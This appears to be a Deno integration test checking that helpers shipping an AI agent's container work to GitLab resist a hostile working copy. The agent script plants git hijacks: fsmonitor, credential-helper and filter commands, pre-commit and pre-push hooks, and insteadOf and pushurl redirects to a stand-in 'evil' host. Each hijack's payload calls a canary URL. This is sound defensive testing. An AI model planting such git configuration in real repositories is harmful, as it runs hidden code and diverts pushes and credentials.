// The export and push helpers on the real engine, against the loopback GitLab: a working copy on a volume
// this test fills itself (a clone on its own lvmh/ branch, an agent's commit, uncommitted work, and a hostile
// .git/config and .gitattributes) is committed, bundled and pushed; the branch holds exactly the agent's
// commits on top of the base, nothing the agent configured runs or redirects the push, and the token appears
// in no helper's create body, inspect, environment, or the working copy.
import assert from "node:assert/strict";
import { bundleWork, commitWork, inspectWork } from "../../docker/export_helper.ts";
import { pushBundle } from "../../docker/push_helper.ts";
import type { Engine } from "../../docker/engine.ts";
import { createBareRepo, git, gitHttpHandler } from "../../testing/fixtures/git_http.ts";
import { startGitlabFixture } from "../../testing/fixtures/gitlab_fixture.ts";
import { agentDoes, bundleOf, fillWorkingCopy } from "../../testing/work_copy.ts";
import {
  buildStubWorker,
  cleanupDocker,
  dockerTest,
  runOnce,
  testEngine,
  uniq,
} from "../../testing/docker.ts";

/** Wrap an engine so every helper's create body, archive and running inspect is kept for the token check. */
function recordingEngine(engine: Engine) {
  const seen: string[] = [];
  const wrapped: Engine = {
    ...engine,
    async containerCreate(name, body) {
      seen.push(JSON.stringify(body));
      return await engine.containerCreate(name, body);
    },
    async containerStart(id) {
      await engine.containerStart(id);
      seen.push(JSON.stringify(await engine.containerInspect(id).catch(() => ({}))));
    },
  };
  return { engine: wrapped, seen };
}

dockerTest(
  "ship helpers: export, commit, bundle and push with a lease; hostile config runs nothing",
  async (t) => {
    const real = testEngine();
    const { engine, seen } = recordingEngine(real);
    const id = uniq();
    const image = `lvmh-test-worker-${id}:latest`;
    const project = `group/ship-${id}`;
    const token = `glpat-${id}-ship-helper-token`;
    const root = await Deno.makeTempDir({ prefix: "lvmh-ship-" });
    const gitHttp = gitHttpHandler({ root, password: token });
    const gl = startGitlabFixture({
      token,
      projects: [{ path: project, lastActivityAt: "2026-01-01T00:00:00Z" }],
      git: gitHttp.handle,
      gitRoot: root,
    });
    const url = `${gl.url}/${project}.git`;
    const bare = `${root}/${project}.git`;
    const volume = `lvmh-test-work-${id}`;
    const branch = `lvmh/${id}`;
    const labels = { "lvmh.managed": "true", "lvmh.repo": project };
    const opts = { image, volume, labels };
    // Every hostile command reports itself twice: a marker in the working copy, and a request to the fixture.
    const evil = (what: string) =>
      `sh -c 'touch /workspace/.pwned-${what} 2>/dev/null; node -e "fetch(\\"${gl.url}/canary-${what}\\").catch(()=>{})"; cat'`;
    try {
      await buildStubWorker(real, image);
      const base = await createBareRepo(root, project, { "README.md": "hello\n", "src/a.txt": "a\n" });
      const repoBundle = await bundleOf(bare);
      await real.volumeCreate(volume, labels);
      await fillWorkingCopy(engine, {
        image,
        volume,
        bundle: repoBundle,
        branch,
        url,
        args: [evil("fsmonitor"), evil("credential"), evil("filter"), evil("hook")],
        agent: `printf 'agent line\\n' >> src/a.txt
git add -A && git commit -q -m "agent: change a"
git config core.fsmonitor "$1"
git config credential.helper "$2"
git config filter.evil.clean "$3"
git config filter.evil.smudge "$3"
git config filter.evil.required true
git config core.hooksPath .githooks
mkdir -p .githooks
printf '#!/bin/sh\\n%s\\n' "$4" > .githooks/pre-commit
cp .githooks/pre-commit .githooks/pre-push
chmod +x .githooks/*
git config url.http://127.0.0.1:1/evil/.insteadOf "${gl.url}/"
git config url.http://127.0.0.1:1/evil/.pushInsteadOf "${gl.url}/"
git config remote.origin.pushurl http://127.0.0.1:1/evil.git
printf '* filter=evil\\n' > .gitattributes
printf 'new file\\n' > NEW.md`,
      });
      const agentHead = (await agentDoes(real, image, volume, "git rev-parse HEAD")).stdout.trim();

      let firstHead = "";
      await t.step(
        "inspect: head, dirty, the base, and the added lines of commits and of uncommitted work",
        async () => {
          const state = await inspectWork(engine, { ...opts, baseSha: base });
          assert.equal(state.head, agentHead);
          assert.equal(state.dirty, true);
          assert.equal(state.containsBase, true);
          assert.match(state.patch, /^\+agent line$/m);
          assert.match(state.patch, /^\+\+\+ b\/NEW\.md$/m);
          assert.match(state.patch, /^\+new file$/m);
        },
      );

      await t.step(
        "commit (the volume read-write only here) and bundle; push creates the branch",
        async () => {
          const commit = await commitWork(engine, {
            ...opts,
            message: "lvmh: ship it",
            authorName: "Test User",
            authorEmail: "tester@example.invalid",
          });
          assert.equal(commit.committed, true);
          assert.match(commit.patch, /^\+new file$/m);
          const { head, bundle } = await bundleWork(engine, { ...opts, baseSha: base });
          assert.equal(head, commit.head);
          await pushBundle(engine, {
            ...opts,
            url,
            branch,
            baseSha: base,
            baseBranch: "main",
            head,
            lease: null,
            bundle,
            token,
            network: "host",
          });
          firstHead = head;
          assert.equal((await git(["--git-dir", bare, "rev-parse", `refs/heads/${branch}`])).trim(), head);
          // Exactly the agent's commit and lvmh's, on top of the base.
          const log = await git(["--git-dir", bare, "log", "--format=%s|%an <%ae>", `${base}..${branch}`]);
          assert.equal(
            log,
            "lvmh: ship it|Test User <tester@example.invalid>\nagent: change a|agent <agent@agent.invalid>\n",
          );
          assert.equal((await git(["--git-dir", bare, "rev-parse", `${branch}~2`])).trim(), base);
          assert.equal((await git(["--git-dir", bare, "rev-parse", "refs/heads/main"])).trim(), base);
          // The committed tree holds what the agent wrote, unfiltered.
          assert.equal(await git(["--git-dir", bare, "show", `${branch}:NEW.md`]), "new file\n");
        },
      );

      await t.step(
        "nothing the agent configured ran, anywhere, and the push went where lvmh said",
        async () => {
          const look = await runOnce(real, image, [
            "sh",
            "-c",
            "ls -a /workspace; cat /workspace/.git/config",
          ], [{
            volume,
            target: "/workspace",
          }]);
          assert.equal(look.code, 0, look.stderr);
          const listing = look.stdout.slice(0, look.stdout.indexOf("[core]"));
          assert.ok(listing.includes("NEW.md") && !listing.includes(".pwned-"), listing);
          assert.deepEqual(gitHttp.stats.paths.filter((p) => p.includes("canary")), []);
          assert.ok(!look.stdout.includes(token), "the token must not be in the working copy's config");
          const grep = await runOnce(real, image, ["grep", "-rl", token, "/workspace"], [{
            volume,
            target: "/workspace",
          }]);
          assert.equal(grep.stdout, "", "the token must be in no file of the working copy");
          assert.ok(gitHttp.stats.pushes >= 1);
        },
      );

      await t.step("a second change updates the branch under the lease", async () => {
        await agentDoes(real, image, volume, "printf 'more\\n' > MORE.md");
        const state = await inspectWork(engine, { ...opts, baseSha: base });
        assert.equal(state.dirty, true);
        const commit = await commitWork(engine, {
          ...opts,
          message: "second",
          authorName: "Test User",
          authorEmail: "tester@example.invalid",
        });
        const { head, bundle } = await bundleWork(engine, { ...opts, baseSha: base });
        assert.equal(head, commit.head);
        const push = {
          ...opts,
          url,
          branch,
          baseSha: base,
          baseBranch: "main",
          head,
          bundle,
          token,
          network: "host",
        };
        // A lease that does not match what GitLab holds (lvmh's record is stale): refused, nothing moves.
        const stale = await pushBundle(engine, { ...push, lease: base }).catch((e) => e);
        assert.match(String(stale), /stale info|rejected/);
        assert.equal((await git(["--git-dir", bare, "rev-parse", `refs/heads/${branch}`])).trim(), firstHead);
        await pushBundle(engine, { ...push, lease: firstHead });
        assert.equal((await git(["--git-dir", bare, "rev-parse", `refs/heads/${branch}`])).trim(), head);
        assert.equal((await git(["--git-dir", bare, "rev-parse", `${branch}~1`])).trim(), firstHead);
      });

      await t.step(
        "never the target branch, never without the token, never the token in a message",
        async () => {
          const { head, bundle } = await bundleWork(engine, { ...opts, baseSha: base });
          const push = { ...opts, url, baseSha: base, baseBranch: "main", head, bundle, network: "host" };
          await assert.rejects(
            pushBundle(engine, { ...push, branch: "main", lease: null, token }),
            TypeError,
          );
          const before = gitHttp.stats.pushes;
          const wrong = await pushBundle(engine, { ...push, branch, lease: head, token: "wrong-token" })
            .catch((e) => e);
          assert.ok(wrong instanceof Error);
          assert.ok(!wrong.message.includes("wrong-token"));
          assert.equal(gitHttp.stats.pushes, before);
          assert.deepEqual(await real.containerList({ "lvmh.repo": project, "lvmh.kind": "push" }), []);
          assert.deepEqual(await real.containerList({ "lvmh.repo": project, "lvmh.kind": "export" }), []);
        },
      );

      await t.step("the token is in no helper's create body or inspect", () => {
        assert.ok(seen.length >= 8, `recorded ${seen.length}`);
        for (const s of seen) {
          assert.ok(!s.includes(token), "token leaked into a container's body or inspect");
        }
        assert.ok(seen.some((s) => s.includes('"NetworkMode":"none"') && s.includes('"ReadOnly":true')));
      });
    } finally {
      await gl.close();
      await real.volumeRemove(volume, true).catch(() => {});
      await cleanupDocker(real, { repos: [project], images: [image] });
      await Deno.remove(root, { recursive: true });
    }
  },
);
